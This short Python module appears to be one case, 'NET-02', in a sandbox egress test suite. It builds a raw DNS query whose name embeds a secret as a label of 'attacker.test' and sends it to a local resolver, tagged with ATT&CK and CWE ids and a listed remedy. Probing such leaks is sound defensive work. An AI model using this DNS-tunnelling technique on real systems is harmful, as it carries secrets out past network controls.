# SPDX-License-Identifier: MIT
"""Goal:  bytes reach the attacker's host.
Means: a question to a name server: the address of SECRET.attacker.test. Where only name lookups may
       leave, the name is the message, and any resolver carries it to whoever owns the domain.
"""

import socket
import struct

from attack import DONE, attempting, denied


def query(name):
    """A DNS question for an A record, in the wire format of RFC 1035."""
    header = struct.pack("!6H", 0x1D0, 0x0100, 1, 0, 0, 0)  # id, recursion desired, one question
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return header + labels + b"\0" + struct.pack("!2H", 1, 1)  # the root; type A, class IN


def run(brief):
    attempting()
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
            server.sendto(query(f"{brief.secret}.attacker.test"), ("127.0.0.1", brief.dns))
    except OSError as why:
        return denied("DNS", why)
    return DONE


ATTACK = {
    "effect": "bytes reach the attacker's host",
    "means": "a label of a name in a DNS query",
    "oracle": "sink",
    "id": "NET-02",
    "attack_id": "T1048.003, T1071.004, CWE-668",
    "remedy": "seccomp without socket(2), datagrams included; a network namespace",
    "refs": ["RFC 1035, 4.1"],
    "run": run,
}
